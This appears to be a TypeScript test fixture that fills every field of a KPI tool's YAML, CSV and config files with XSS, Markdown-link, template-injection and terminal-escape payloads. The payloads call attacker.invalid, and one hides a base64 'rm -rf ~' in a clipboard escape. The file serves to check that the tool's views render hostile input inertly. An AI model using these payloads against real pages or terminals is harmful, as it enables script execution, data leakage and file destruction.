/**
 * Hostile text for every string field of the KPI format, and a workspace
 * made of it. Anything that runs calls alert() or fetches from
 * attacker.invalid, so a browser test that sees no dialog and no request
 * knows nothing ran and nothing was fetched.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { plainText } from '../server/src/report/plain-text';

export const ATTACKER = 'attacker.invalid';

export const PAYLOADS: readonly string[] = [
  `<script>alert('script')</script>`,
  `<img src=x onerror="alert('img')">`,
  `<svg onload="alert('svg')"><circle r="9"/></svg>`,
  `<a href="javascript:alert('href')">click</a>`,
  `<iframe src="http://${ATTACKER}/frame"></iframe><object data="http://${ATTACKER}/object"></object>`,
  `<base href="http://${ATTACKER}/"><link rel="stylesheet" href="http://${ATTACKER}/style.css"><meta http-equiv="refresh" content="0;url=http://${ATTACKER}/refresh">`,
  `</style><style>@import url(http://${ATTACKER}/import.css); body { background: url(http://${ATTACKER}/bg.png) }</style>`,
  `--><script>alert('comment')</script><!--`,
  `" onmouseover="alert('double')" autofocus onfocus="alert('focus')" x="`,
  `' onmouseover='alert(1)' x='`,
  `[click](javascript:alert('md'))`,
  `[docs](http://${ATTACKER}/link) ![pixel](http://${ATTACKER}/pixel.png) <http://${ATTACKER}/auto>`,
  `[run](command:workbench.action.terminal.new) [open](file:///etc/passwd)`,
  `http://${ATTACKER}/bare www.${ATTACKER} mail@${ATTACKER}`,
  `<details open><summary>raw</summary><b>HTML</b> in Markdown</details>`,
  '``a` <img src=x onerror="alert(\'tick\')"> `b``',
  '` `` ```',
  "${alert('template')} {{constructor.constructor('alert(1)')()}} <%= 7*7 %>",
  '$(alert) $(loading~spin) \\$(x)',
  `&lt;script&gt;alert('entity')&lt;/script&gt; &amp;`,
  'line\r# heading\r===\n- item\r\n> quote',
  '\u202Eevil\u202C \u2067isolate \u202Bembed',
  `\u001b]8;;http://${ATTACKER}/\u0007terminal link\u001b]8;;\u0007\u001b[2J\u001b]52;c;cm0gLXJmIH4=\u0007`,
  '*bold* _em_ ~~strike~~ | pipe | # hash \\ backslash $x$',
];

/** A payload as the views show it: on one line, control and bidi characters visible (see plain-text.ts). */
export const shown = plainText;

/** A YAML double-quoted scalar: JSON's escapes are YAML's. */
const q = (text: string) => JSON.stringify(text);

/** The CSV file the KPIs of every third payload read: hostile column names and cells. */
export const CSV_DATE = `<img src=x onerror="alert('csv')">`;
export const CSV_VALUE = `[v](javascript:alert('csv'))`;
const csvCell = (text: string) => `"${text.replace(/"/g, '""')}"`;
export const HOSTILE_CSV = [
  `${csvCell(CSV_DATE)},${csvCell(CSV_VALUE)}`,
  '2026-08,3',
  `${csvCell("<script>alert('row')</script>")},4`,
  `2026-07,${csvCell(`<svg onload="alert('cell')">`)}`,
  '',
].join('\n');

/** A file name that is hostile too (Linux allows all of it). */
export const HOSTILE_FILE_NAME = "`$(alert)[x](command:workbench.action.terminal.new)<img src=x onerror=alert('file')>'.kpi.yaml";

/**
 * One KPI file per payload: the file title, a goal and a KPI whose every
 * string field (and an unknown key, an `x-` key, tags, notes, dates, CSV
 * source fields) is the payload. Goal i's parent is goal i-1, so the goal
 * tree is deep. KPIs still have numbers, so their status, latest value and
 * unit show.
 */
export function hostileFile(index: number): string {
  const p = q(PAYLOADS[index]);
  const parent = index > 0 ? [`    parent: ${q(PAYLOADS[index - 1])}`] : [];
  const sources = [
    `    source: ${p}`,
    `    source: { file: ${p}, date: ${p}, value: ${p} }`,
    `    source: { file: data/hostile.csv, date: ${q(CSV_DATE)}, value: ${q(CSV_VALUE)} }`,
  ];
  return [
    'kpi: 1',
    `title: ${p}`,
    'goals:',
    `  - id: ${p}`,
    `    title: ${p}`,
    `    description: ${p}`,
    `    strategy: ${p}`,
    ...parent,
    `    owner: ${p}`,
    `    due: ${p}`,
    `    status: ${p}`,
    `    x-note: ${p}`,
    `    ${p}: ${p}`,
    'kpis:',
    `  - id: ${p}`,
    `    name: ${p}`,
    `    description: ${p}`,
    `    category: ${p}`,
    `    goals: [${p}]`,
    `    owner: ${p}`,
    `    rationale: ${p}`,
    `    unit: ${p}`,
    `    direction: ${p}`,
    `    frequency: ${p}`,
    `    baseline: { value: 1, date: ${p} }`,
    `    target: { value: 10, date: ${index % 2 === 0 ? '2026-12' : p} }`,
    `    thresholds: { atRisk: ${p}, offTrack: ${p} }`,
    sources[index % 3],
    '    measurements:',
    `      - { date: 2026-09, value: 4, note: ${p} }`,
    `      - { date: 2026-10, value: 5, note: ${p} }`,
    `      - { date: ${p}, value: 6, note: ${p} }`,
    `      - { date: 2026-11, value: ${p} }`,
    `    tags: [${p}]`,
    `    x-note: ${p}`,
    `    ${p}: ${p}`,
    '',
  ].join('\n');
}

/**
 * The reason of hostile KPI i: its direction, baseline date and both
 * thresholds have errors, and its target date too when i is odd.
 */
export function invalidReason(index: number): string {
  return `fix the errors in its definition (${index % 2 === 0 ? 4 : 5})`;
}

/** The title of the hostile workspace's kpi.config.yaml: markup, a Markdown link and a terminal escape. */
export const HOSTILE_TITLE = `${PAYLOADS[0]} ${PAYLOADS[10]} ${PAYLOADS[22]}`;

/** A goal in a file with a hostile name, which goal-id completion names. */
export const FILE_NAME_GOAL = 'named-by-file';

/** The whole hostile workspace: relative path → text. */
export function hostileWorkspace(): Record<string, string> {
  const files: Record<string, string> = { 'data/hostile.csv': HOSTILE_CSV };
  PAYLOADS.forEach((_, i) => {
    files[`p${String(i).padStart(2, '0')}.kpi.yaml`] = hostileFile(i);
  });
  files[HOSTILE_FILE_NAME] = ['kpi: 1', 'goals:', `  - id: ${FILE_NAME_GOAL}`, '    title: Named by its file', ''].join('\n');
  // The scorecard's title (SPEC §6) heads every view: the HTML <title> and <h1>, the terminal table, the Markdown heading.
  files['kpi.config.yaml'] = `title: ${q(HOSTILE_TITLE)}\n`;
  return files;
}

/** Writes the hostile workspace into a folder. */
export function writeHostileWorkspace(dir: string): void {
  for (const [name, text] of Object.entries(hostileWorkspace())) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), text);
  }
}

/** A kpi.config.yaml whose keys are hostile: its problems reach a notification. */
export const HOSTILE_CONFIG = [
  'rules:',
  `  ${q('[Fix the config](command:workbench.action.terminal.new)')}: off`,
  `  ${q(`[docs](https://${ATTACKER}/) $(alert)`)}: off`,
  `  missing-owner: ${q('[x](command:workbench.action.terminal.new)')}`,
  `${q('<img src=x onerror=alert(1)>[y](file:///etc/passwd)')}: 1`,
  '',
].join('\n');
